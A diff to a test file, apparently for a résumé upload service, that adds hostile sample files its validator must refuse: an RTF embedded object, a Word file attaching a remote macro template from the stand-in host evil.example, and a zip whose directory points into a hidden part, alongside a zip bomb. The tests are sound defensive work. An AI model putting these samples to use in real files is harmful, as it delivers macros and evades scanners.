@@ -1,4 +1,4 @@
-import { strToU8, zipSync } from 'fflate';
+import { strToU8, zipSync, type ZipOptions } from 'fflate';
 import sql from 'sql-template-tag';
 import { applyTo, sendCv, smallPdf, uploadCv } from '../applicationFixtures';
 import { encryptedPdf } from '../encryptedPdf';
@@ -27,20 +27,23 @@ const call = (method: 'GET' | 'PUT' | 'DELETE', url: string, payload?: object, w
   });
 const list = async () => (await call('GET', '/resumes')).json();
 
-const docx = (files: Record<string, string | Uint8Array> = {}): Buffer =>
+const docx = (files: Record<string, string | Uint8Array> = {}, options: ZipOptions = {}): Buffer =>
   Buffer.from(
-    zipSync({
-      '[Content_Types].xml': strToU8(
-        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
-      ),
-      'word/document.xml': strToU8('<w:document/>'),
-      ...Object.fromEntries(
-        Object.entries(files).map(([name, text]) => [
-          name,
-          typeof text === 'string' ? strToU8(text) : text,
-        ]),
-      ),
-    }),
+    zipSync(
+      {
+        '[Content_Types].xml': strToU8(
+          '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
+        ),
+        'word/document.xml': strToU8('<w:document/>'),
+        ...Object.fromEntries(
+          Object.entries(files).map(([name, text]) => [
+            name,
+            typeof text === 'string' ? strToU8(text) : text,
+          ]),
+        ),
+      },
+      options,
+    ),
   );
 const odt = (files: Record<string, string> = {}): Buffer =>
   Buffer.from(
@@ -102,6 +105,15 @@ test('a text in UTF-16 is stored in UTF-8', async () => {
   expect((await call('GET', `/resumes/${_id}/file`)).body).toBe('Ivo Kern – CV');
 });
 
+/** An archive whose directory takes its text from within another part. */
+function withHiddenPart(): Buffer {
+  const name = 'word/document.xml';
+  const hidden = Buffer.from(zipSync({ [name]: strToU8('<w:document/>') }, { level: 0 }));
+  const file = Buffer.from(docx({ 'word/media/a.bin': hidden }, { level: 0 }));
+  const entry = file.lastIndexOf(name) - 46;
+  file.writeUInt32LE(file.indexOf(hidden), entry + 42);
+  return file;
+}
 const bomb = docx({ 'word/media/zeros.bin': new Uint8Array(80 * 1024 * 1024) });
 const refused: [string, Buffer, RegExp][] = [
   ['nothing', Buffer.alloc(0), /empty/],
@@ -125,6 +137,16 @@ const refused: [string, Buffer, RegExp][] = [
     /password/,
   ],
   ['RTF with an object', Buffer.from('{\\rtf1{\\object\\objdata 0105}}'), /macros/],
+  ['RTF with an object by a number', Buffer.from('{\\rtf1{\\object\\objdata1 05}}'), /macros/],
+  [
+    'Word with a template elsewhere',
+    docx({
+      'word/_rels/settings.xml.rels':
+        '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>',
+    }),
+    /macros/,
+  ],
+  ['Word with a part that another hides', withHiddenPart(), /can’t be opened/],
   ['a damaged PDF', Buffer.from('%PDF-1.4 nothing follows'), /can’t be opened/],
   ['a bomb', bomb, /can’t be opened/],
   ['a zip of something', Buffer.from(zipSync({ 'a.txt': strToU8('a') })), /can’t read/],
